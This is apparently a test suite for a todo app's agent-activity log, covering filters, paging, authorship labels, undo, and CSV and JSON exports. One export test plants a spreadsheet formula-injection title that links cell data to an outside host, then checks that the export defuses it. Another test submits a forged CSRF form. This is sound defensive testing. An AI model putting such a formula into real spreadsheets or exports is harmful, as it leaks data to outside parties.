import { afterEach, expect, test } from "bun:test";
import { addDays } from "../../../../shared/domain/day/day.ts";
import { useStack } from "../../../harness.ts";
import {
  callsOf,
  cardsOf,
  fieldsOf,
  newPlainPerson,
  takeBackOn,
  textOf,
  withForms,
} from "../../../support/pages/plain.ts";
import { exportFile, stageFile } from "../../../support/pages/staged-import.ts";
import { eventually, query } from "../../../support/reminder/stack.ts";

const stack = await useStack({ travels: true });
const { databaseUrl } = stack.config;
afterEach(() => {
  stack.clock.now = undefined;
});

async function personWithAgent(app = "Claude") {
  const person = await newPlainPerson(stack, app);
  /** The texts of the list's cards. */
  const open = async (search = "") => {
    const page = await person.account.open(`/account/actions${search}`);
    return cardsOf(page).map((card) => textOf({ ...page, text: `<li${card}` }).trim());
  };
  return { ...person, open };
}

/** A new person in a browser without scripts, with two apps. */
async function personWithTwoApps() {
  const { account, newToken, ...bot } = await newPlainPerson(stack, "Todo Bot");
  const takeBack = async (text: string) => takeBackOn(account, await account.open("/account/actions"), text);
  return { account, bot, claude: callsOf(stack, await newToken("Claude")), takeBack };
}

test("changes and refusals come first, and what was only looked at is one line that leads to it", async () => {
  const { account, call, open } = await personWithAgent();
  await call("create-todo", { title: "Pay rent" });
  for (let n = 0; n < 35; n++) await call("get-pending-todos");
  await call("get-today-habits");
  await call("delete-todo", { todo_id: 404 });
  const [refused, created, folded, ...more] = await open();
  expect(more).toEqual([]);
  expect(refused).toContain("Tried to delete the todo 404");
  expect(refused).toContain("It was told: Todo not found.");
  expect(created).toContain("Created the todo Pay rent");
  expect(folded).toStartWith("Claude: Looked at the todos 35 times; looked at the habits");
  const page = await account.open("/account/actions");
  const reads = /href="([^"]+)">Looked at/.exec(page.text)?.[1]?.replaceAll("&amp;", "&") ?? "";
  expect(cardsOf(await account.open(reads))).toHaveLength(36);
  expect([(await open("?show=all")).length, await open("?show=refusals")]).toEqual([
    38,
    [expect.stringContaining("404")],
  ]);
});

test("the list is filtered by token, tool and outcome, and goes back page by page", async () => {
  const { account, call, newToken, open } = await personWithAgent("Second");
  await callsOf(stack, await newToken("First")).call("delete-todo", { todo_id: 404 });
  for (let n = 0; n < 55; n++) await call("create-todo", { title: `Todo ${n}` });
  // One card has all that one token did in a row.
  expect(await open()).toHaveLength(2);
  const page = await account.open("/account/actions?door=mcp");
  expect([cardsOf(page).length, cardsOf(page)[0]]).toEqual([50, expect.stringContaining("Todo 54")]);
  const older = /href="([^"]+)"[^>]*>Older</.exec(page.text)?.[1]?.replaceAll("&amp;", "&") ?? "";
  const before = cardsOf(await account.open(older));
  expect([before.length, before.at(-1)]).toEqual([
    6,
    expect.stringContaining("Tried to delete the todo 404"),
  ]);
  expect(await open("?tool=create-todo&show=all")).toHaveLength(50);
  expect(await open("?outcome=not_found")).toEqual([expect.stringContaining("First")]);
  const [, second = ""] = /<option value="([^"]+)"[^>]*>Second/.exec(page.text) ?? [];
  expect(await open(`?outcome=not_found&token_id=${second}`)).toEqual([]);
  const none = await account.open(`/account/actions?outcome=not_found&token_id=${second}`);
  expect([second === "", textOf(none)]).toEqual([false, expect.stringContaining("No call matches.")]);
});

test("what was deleted last week is found by a word of its title, and by its day", async () => {
  const { account, rest, open, sub } = await personWithAgent();
  const settings = await account.open("/account/settings/day");
  const day = { time_zone: "Europe/Berlin", day_start_hour: "0" };
  await account.submit(settings, "/account/settings/day", day);
  const { id } = await rest("POST", "/todos", { title: "Zahnärztin anrufen" });
  await rest("DELETE", `/todos/${id}`);
  const [lastWeek, dayBefore] = [7, 8].map((ago) => addDays(new Date().toISOString().slice(0, 10), -ago));
  await query(
    databaseUrl,
    `update action_log set called_at = $2::timestamp at time zone 'Europe/Berlin'
       + case when tool = 'todo.create' then interval '-30 minutes' else interval '30 minutes' end
     where user_id = $1 and resource_name like 'Zahn%'`,
    [sub, `${lastWeek} 00:00`],
  );
  await rest("POST", "/todos", { title: "Buy milk" });
  expect(await open("?q=zahnarztin")).toEqual([
    expect.stringMatching(/^00:30:00\s+Deleted the todo Zahnärztin anrufen/),
    expect.stringMatching(/^23:30:00\s+Created the todo Zahnärztin anrufen/),
  ]);
  expect(await open(`?from=${lastWeek}&to=${lastWeek}`)).toEqual([expect.stringContaining("Deleted the")]);
  expect(await open(`?to=${dayBefore}`)).toEqual([expect.stringContaining("Created the")]);
  expect(await open("?q=zahnarztin&from=0001-01-01&to=9999-12-31")).toHaveLength(2);
  const refused = await account.open("/account/actions?from=2026-02-30");
  expect(refused.status).toBe(422);
  expect(textOf(refused)).toContain("The from field must be a real date");
});

test("a change is told before and after, by whom, and leads to what it is about", async () => {
  const { account, rest, open } = await personWithAgent();
  const { id } = await rest("POST", "/todos", { title: "Pay <b>rent</b>" });
  await rest("PATCH", `/todos/${id}`, { context: "@desk" });
  await account.submit(withForms(await account.open("/account"), "todo_id", id), "/account/tick", {
    done: "yes",
  });
  const [ticked, changed] = await open();
  expect(ticked).toMatch(/Ticked off the todo Pay &lt;b&gt;rent&lt;\/b&gt; .*You, on a page/);
  expect(changed).toMatch(/context none → @desk .*Claude over REST/);
  const [card = ""] = cardsOf(await account.open("/account/actions"));
  const [, link = ""] = /<a href="([^"]+)"/.exec(card) ?? [];
  expect(link).toBe(`/account/todos/${id}`);
  expect(fieldsOf(await account.open(link), link)).toMatchObject({ title: "Pay <b>rent</b>" });
});

test("what came since the person's last visit is new for as long as the next one lasts", async () => {
  const { account, call } = await personWithAgent();
  let shown = "";
  const news = async (minutesLater: number) => {
    stack.clock.now = Date.now() + minutesLater * 60_000;
    const page = await account.open("/account/actions");
    stack.clock.now = undefined;
    shown = textOf(page);
    const isNew = cardsOf(page).filter((card) => card.includes(">New<"));
    return isNew.map((card) => /Created the todo (\w+)/.exec(textOf({ ...page, text: card }))?.[1]);
  };
  await call("create-todo", { title: "Before" });
  // For a person who never looked, the last week is new.
  expect(await news(0)).toEqual(["Before"]);
  await call("create-todo", { title: "After" });
  await account.submit(await account.open("/account"), "/account/tick", { done: "yes" });
  expect(await news(1)).toEqual(["After", "Before"]);
  expect(await news(40)).toEqual([]);
  await call("create-todo", { title: "Later" });
  expect(await news(80)).toEqual(["Later"]);
  expect(shown).toContain("1 is new since your last visit.");
  expect(await news(90)).toEqual(["Later"]);
  expect(await news(130)).toEqual([]);
});

test("beside Activity stands how many runs the person has not seen, on every page", async () => {
  const { account, newToken, sub, ...claude } = await personWithAgent();
  const script = callsOf(stack, await newToken("Script"));
  const actionsOn = async (path: string) =>
    /Activity( [\d+]+ new)?/.exec(textOf(await account.open(`/account${path}`)))?.[0];
  const make = (by: typeof claude.rest, title: string) => by("POST", "/todos", { title });
  await make(claude.rest, "before");
  expect(await actionsOn("")).toBe("Activity 1 new");
  await account.open("/account/actions");
  expect(await actionsOn("/settings")).toBe("Activity");
  for (const title of ["a", "b", "c"]) await make(claude.rest, title);
  await claude.call("get-pending-todos");
  expect(await actionsOn("/settings")).toBe("Activity 1 new");
  await make(script.rest, "d");
  await account.submit(await account.open("/account"), "/account/add", { line: "Mine" });
  expect(await actionsOn("/todos")).toBe("Activity 2 new");
  await query(
    databaseUrl,
    `insert into action_log (user_id, request_id, called_at, door, token_id, tool, arguments, outcome, replayed, calls, duration_ms)
     select $1, gen_random_uuid(), now(), 'rest', 'token ' || n, 'todo.create', '{}', 'ok', false, 1, 1
     from generate_series(1, 120) n`,
    [sub],
  );
  expect(await actionsOn("/habits")).toBe("Activity 99+ new");
  for (const path of ["/actions", "/todos"]) expect(await actionsOn(path)).toBe("Activity");
});

test("what the filter shows can be had as CSV that no spreadsheet takes for formulas, and as JSON lines", async () => {
  const { account, rest, call } = await personWithAgent();
  const evil = `=HYPERLINK("http://example.com/"&A1,"Rent")`;
  await call("create-todo", { title: evil });
  await call("get-pending-todos");
  await call("delete-todo", { todo_id: 404 });
  await rest("PATCH", "/todos/404", { title: "+1" });
  const { text } = await account.open("/account/actions?show=all");
  const links = [...text.matchAll(/href="([^"]*export[^"]*)"/g)].map(([, link = ""]) => link);
  const [csv, json] = await Promise.all(links.map((link) => account.open(link.replaceAll("&amp;", "&"))));
  expect(csv?.headers.get("content-disposition")).toMatch(
    /^attachment; filename="kept-actions-[\d-]{10}\.csv"$/,
  );
  const cells = csv?.text.split(/\r\n|","/) ?? [];
  expect(cells).toContain(`'${evil.replaceAll('"', '""')}`);
  expect(cells).toContain(`Created the todo “${evil.replaceAll('"', '""')}”`);
  expect(cells.filter((cell) => /^"?\s*[=+@-]/.test(cell))).toEqual([]);

  const lines = (json?.text.trimEnd().split("\n") ?? []).map((line) => JSON.parse(line));
  expect(lines.map(({ tool, outcome, what }) => [tool, outcome, what])).toEqual([
    ["todo.update", "not_found", "Tried to change the todo 404"],
    ["delete-todo", "not_found", "Tried to delete the todo 404"],
    ["get-pending-todos", "ok", "Looked at the todos"],
    ["create-todo", "ok", `Created the todo “${evil}”`],
  ]);
  expect(Object.values(lines[3].after)).toMatchObject([{ title: evil }]);
  expect((await account.open("/account/actions/export?format=exe")).status).toBe(422);
});

test("a file goes on along the list to its end, and its filters are those of the page", async () => {
  const { account, answer } = await personWithAgent();
  for (let n = 0; n < 9; n++) {
    const titles = Array.from({ length: 50 }, (_, i) => `T${n}-${i}`);
    const operations = titles.map((title) => ({ method: "POST", path: "/todos", body: { title } }));
    expect((await answer("POST", "/batch", { operations })).status).toBe(200);
  }
  const file = async (filters: string) =>
    (await account.open(`/account/actions/export?format=jsonl${filters}`)).text.split("\n");
  const names = (await file("")).slice(0, -1).map((line) => JSON.parse(line).resource_name);
  expect([new Set(names).size, names[0]]).toEqual([450, "T8-49"]);
  expect((await file("&q=T3-")).length - 1).toBe(50);
  expect(await file("&show=refusals")).toEqual([""]);
});

test("chosen requests are declined together, and a form from elsewhere decides nothing", async () => {
  const { account, rest } = await personWithAgent();
  const titles = async () => (await rest("GET", "/todos")).data.map(({ title }: { title: string }) => title);
  await rest("POST", "/todos", { title: "First" });
  const agents = "/account/agents";
  const saved = await account.submit(await account.open(agents), agents, { ask_above: "0" });
  expect(textOf(saved)).toContain("Its rules are saved.");
  for (const title of ["a", "b", "c"]) await rest("POST", "/todos", { title });
  const path = "/account/approvals";
  const page = await account.open(path);
  const shownOn = ({ forms }: typeof page) =>
    forms.flatMap(({ fields }) => fields.flatMap(([name, value]) => (name === "shown" ? [value] : [])));
  const [a = "", b = "", c = ""] = shownOn(page);
  const forged = await account.submit(page, path, { act: `approve ${a}`, csrf: "x.y" });
  expect([forged.status, await titles()]).toEqual([403, ["First"]]);
  const declined = await account.submit(page, path, { act: "decline chosen", approval_id: [a, c] });
  expect(textOf(declined)).toContain("2 declined.");
  expect(textOf(declined)).toContain("Create the todo b");
  expect([shownOn(declined), await titles()]).toEqual([[b], ["First"]]);
});

test("the pages of a todo, habit and category tell who made it and who changed it last", async () => {
  const { account, bot, claude } = await personWithTwoApps();
  const todo = await bot.rest("POST", "/todos", { title: "Pay rent" });
  const habit = await bot.rest("POST", "/habits", { name: "Read", type: "good", frequency: "daily" });
  const category = await bot.rest("POST", "/categories", { name: "Home" });
  await claude.rest("PATCH", `/todos/${todo.id}`, { due_date: "2030-01-01" });
  await claude.rest("POST", `/habits/${habit.id}/complete`);
  for (const [path, changer] of [
    [`todos/${todo.id}`, "Claude"],
    [`habits/${habit.id}`, "Claude"],
    [`habits/${habit.id}/edit`, "Claude"],
    [`categories/${category.id}`, "Todo Bot"],
  ])
    expect(textOf(await account.open(`/account/${path}`))).toContain(
      `Made by Todo Bot, last changed by ${changer}.`,
    );
});

test("what the person writes on a page is the person's, and taking that back makes it the app's again", async () => {
  const { account, bot, claude, takeBack } = await personWithTwoApps();
  const { id } = await bot.rest("POST", "/todos", { title: "Pay rent" });
  const writer = async () => (await claude.rest("GET", `/todos/${id}`)).written_by;
  expect(await writer()).toBe("Todo Bot");
  const path = `/account/todos/${id}`;
  const saved = await account.submit(await account.open(path), path, { title: "Pay the rent" });
  expect(textOf(await account.open(path))).toContain("Made by Todo Bot, last changed by you.");
  expect([saved.status, await writer()]).toEqual([200, null]);
  await takeBack("Pay the rent");
  const found = await claude.rest("GET", `/todos/${id}`);
  expect(found).toMatchObject({ title: "Pay rent", written_by: "Todo Bot" });
});

test("what an undo brings back has the authors that it had, also where its words were changed since", async () => {
  const { account, bot, claude, takeBack } = await personWithTwoApps();
  const { id } = await bot.rest("POST", "/todos", { title: "Pay rent" });
  const expectClaudes = async () =>
    expect(await bot.rest("GET", `/todos/${id}`)).toMatchObject({ title: "Pay rent", written_by: "Claude" });
  await bot.rest("PATCH", `/todos/${id}`, { title: "Pay it" });
  await claude.rest("PATCH", `/todos/${id}`, { description: "By the first" });
  await takeBack("Pay rent");
  await expectClaudes();
  await claude.call("delete-todo", { todo_id: id });
  await takeBack("Deleted the todo");
  await expectClaudes();
  expect(textOf(await account.open(`/account/todos/${id}`))).toContain(
    "Made by Todo Bot, last changed by you.",
  );
});

test("the history of a thing has all that was done to it, together with others as well, and nothing else", async () => {
  const { account, bot } = await personWithTwoApps();
  const { id } = await bot.rest("POST", "/todos", { title: "Bins", recurrence: "FREQ=DAILY" });
  const other = await bot.rest("POST", "/todos", { title: "Buy bins" });
  await bot.call("update-todo", { todo_ids: [id, other.id], context: "home" });
  const { next_todo_id } = await bot.rest("POST", `/todos/${id}/toggle`);
  const habit = await bot.rest("POST", "/habits", { name: "Bins", type: "good", frequency: "daily" });
  await bot.rest("POST", `/habits/${habit.id}/complete`);
  for (const [thing, count, words] of [
    [`todo/${id}`, 3, "Created the todo Bins"],
    [`todo/${other.id}`, 2, "Buy bins"],
    [`todo/${next_todo_id}`, 1, "Bins"],
    [`habit/${habit.id}`, 2, "Completed the habit Bins"],
  ] as const) {
    const link = `/account/actions?thing=${thing}`;
    expect((await account.open(`/account/${thing.replace("/", "s/")}`)).text).toContain(`href="${link}"`);
    const history = await account.open(link);
    expect([cardsOf(history).length, textOf(history)]).toEqual([count, expect.stringContaining(words)]);
  }
  expect((await account.open("/account/actions?thing=todo/x")).status).toBe(422);
});

test("the news of Today counts what agents did, however much the person did since, and no reminder as a thing", async () => {
  const { account, rest, sub } = await personWithAgent();
  await rest("POST", "/todos", { title: "before" });
  await account.open("/account/actions");
  for (const title of ["a", "b", "c"]) {
    const { id } = await rest("POST", "/todos", { title });
    await rest("PUT", `/todos/${id}/reminder`, { remind_at: "2066-12-01T09:00:00" });
  }
  await query(
    databaseUrl,
    `insert into action_log (user_id, request_id, called_at, door, token_id, tool, arguments, outcome, after, replayed, calls, duration_ms)
     select $1, gen_random_uuid(), now(), 'page', '', 'todo.create', '{}', 'ok', '{"todos/1":{}}', false, 1, 1
     from generate_series(1, 300) n`,
    [sub],
  );
  const today = await account.open("/account");
  expect(textOf(today)).toContain("While you were away: Claude made 3, changed 3.");
});

test("a run of undos is told by whose changes it took back", async () => {
  const { account, rest, open } = await personWithAgent();
  for (let n = 0; n < 6; n++) await rest("POST", "/todos", { title: `T${n}` });
  const [run = ""] = cardsOf(await account.open("/account/actions"));
  const address = /href="([^"]*run[^"]*)"/.exec(run)?.[1]?.replaceAll("&amp;", "&") ?? "";
  const page = await account.open(address);
  await account.submit({ ...page, forms: page.forms.toReversed() }, "/account/actions/run", {});
  await eventually(async () => /You [\d:–]+ took back 6 changes of Claude/.test((await open())[0] ?? ""));
});

test("an import is told as an import, also by what it made", async () => {
  const { account, open, rest, sub } = await personWithAgent();
  const door = await stack.page();
  await door.send(sub, "import.apply", await stageFile(door, sub, exportFile({ todos: [{ title: "Old" }] })));
  expect(await open("?effect=imported")).toEqual([
    expect.stringMatching(/Imported 1 todo from a file .*You, by an import/),
  ]);
  const [{ id }] = (await rest("GET", "/todos")).data;
  expect(textOf(await account.open(`/account/todos/${id}`))).toContain(
    "Made by an import, last changed by an import.",
  );
});
